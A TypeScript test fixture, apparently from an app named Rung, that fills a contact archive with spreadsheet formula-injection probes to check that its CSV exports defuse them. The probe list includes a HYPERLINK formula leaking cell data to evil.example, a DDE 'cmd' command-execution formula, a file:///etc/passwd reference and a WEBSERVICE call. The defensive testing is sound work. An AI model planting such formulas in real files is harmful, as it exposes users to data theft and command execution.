// Every table Rung writes, of people whose names, jobs, addresses and notes are formulas; and the same formulas raw.
import 'temporal-polyfill/global';
import { formats } from '@/lib/formats';
import { tableText } from '@/lib/formats/csv/cell';
import { whole } from '@/lib/formats/text/whole';
import { archiveOf, contactOf, factOf, handleOf, idOf } from '../formats/archives';
import { written } from '../formats/written';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1;"Ann")',
  "=cmd|'/c calc'!A1",
  "='file:///etc/passwd'#$passwd.A1",
  '=WEBSERVICE("http://evil.example")',
  '=DDE("soffice";"x";"y")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '|1',
  '%1',
  '＝1+1',
  '＋1+1',
  '－2+3',
  '＠SUM(1+1)',
];

const HIDDEN = ['', ' ', '\t', '\r', '\n', '\0', '\u0001', '\u00a0', '\ufeff', '\u200b', '\u202e', '\u2028', '\u3000'];

/** Behind everything a program may strip from the front of a cell. */
export const PROBES: readonly string[] = HIDDEN.flatMap((before) => FORMULAS.map((formula) => before + formula));

function hostileArchive() {
  const contacts = PROBES.map((probe, i) =>
    contactOf(i + 1, {
      name: probe,
      organisation: probe,
      title: probe,
      note: `${probe}\n${probe}`,
      tags: [probe],
      handles: [
        handleOf('email', `=cmd|x${i}@evil.example`),
        handleOf('phone', `=1+55501${i}`),
        handleOf('phone', `+1 555 01${i}`),
        handleOf('postal', `${probe}\n${probe}`),
      ],
    }),
  );
  const journal = PROBES.map((probe, i) => factOf(i + 1, [idOf(i + 1)], { note: probe, type: 'note' }));
  return archiveOf({ contacts, journal });
}

/** Text of each file by its name; `raw.csv` is what must be found out, or the check proves nothing. */
export function hostileTables(): Record<string, string> {
  const archive = hostileArchive();
  const tables = formats
    .filter(({ mediaType, write }) => write && mediaType.startsWith('text/csv'))
    .map((format) => [format.fileName, written(format, archive)] as const);
  return {
    ...Object.fromEntries(tables),
    'raw.csv': whole(
      tableText(
        ['Probe'],
        PROBES.map((probe) => [probe]),
      ),
    ),
  };
}
